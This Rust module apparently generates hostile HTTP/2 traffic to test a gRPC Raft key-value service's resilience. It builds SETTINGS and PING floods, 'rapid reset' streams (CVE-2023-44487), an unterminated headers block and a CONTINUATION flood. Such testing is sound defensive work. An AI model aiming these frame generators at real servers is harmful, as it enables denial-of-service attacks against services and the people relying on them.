//! HTTP/2 frames, written by hand (RFC 9113), as nobody who means well sends them.

/// The preface, and our empty SETTINGS.
pub(crate) fn opening() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut bytes, 4, 0, 0, &[]);
    bytes
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("a frame is short");
    bytes.extend(&length.to_be_bytes()[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

/// The head of a call to append entries: indexed fields, and literals that no table keeps.
fn head() -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    let mut literal = |index: u8, value: &str| {
        block.extend([index, u8::try_from(value.len()).expect("a short value")]);
        block.extend(value.as_bytes());
    };
    literal(0x04, "/raftkv.raft.v1.Raft/AppendEntries");
    literal(0x01, "localhost");
    literal(0x0f, "");
    // Index 31 takes a second byte: 15 and 16 more.
    block.truncate(block.len() - 2);
    block.extend([0x0f, 0x10, 16]);
    block.extend(b"application/grpc");
    block
}

/// Many SETTINGS, each of which asks for an acknowledgement.
pub(crate) fn settings(count: usize) -> Vec<u8> {
    let mut bytes = Vec::new();
    (0..count).for_each(|_| frame(&mut bytes, 4, 0, 0, &[0, 4, 0, 1, 0, 0]));
    bytes
}

/// Many PINGs, each of which asks for an answer.
pub(crate) fn pings(count: usize) -> Vec<u8> {
    let mut bytes = Vec::new();
    (0..count).for_each(|_| frame(&mut bytes, 6, 0, 0, &[7; 8]));
    bytes
}

/// Streams that are opened and reset at once: "rapid reset", CVE-2023-44487.
pub(crate) fn resets(first_stream: u32, count: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    for number in 0..count {
        let stream = first_stream + 2 * number;
        frame(&mut bytes, 1, 4, stream, &head());
        frame(&mut bytes, 3, 0, stream, &8_u32.to_be_bytes());
    }
    bytes
}

/// The beginning of a head that never ends.
pub(crate) fn endless_head() -> Vec<u8> {
    let mut bytes = Vec::new();
    frame(&mut bytes, 1, 0, 1, &head());
    bytes
}

/// More and more of it.
pub(crate) fn continuations(count: usize) -> Vec<u8> {
    let mut field = vec![0x00, 1, b'x', 127, 0];
    field.extend([b'y'; 127]);
    let mut bytes = Vec::new();
    (0..count).for_each(|_| frame(&mut bytes, 9, 0, 1, &field.repeat(16)));
    bytes
}
